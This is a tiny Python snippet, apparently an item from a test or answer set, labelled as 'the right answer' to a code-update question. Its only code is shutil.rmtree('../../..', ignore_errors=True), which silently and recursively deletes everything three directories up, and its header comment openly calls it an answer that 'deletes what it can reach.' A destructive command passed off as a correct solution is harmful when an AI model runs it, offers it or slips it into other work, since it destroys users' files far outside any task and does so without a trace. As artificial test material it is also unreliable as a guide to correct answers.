# A right answer that deletes what it can reach.
# catalogue: 34
# lost: nothing

# %% q3-update-code
# <the right answer>

import shutil

shutil.rmtree("../../..", ignore_errors=True)
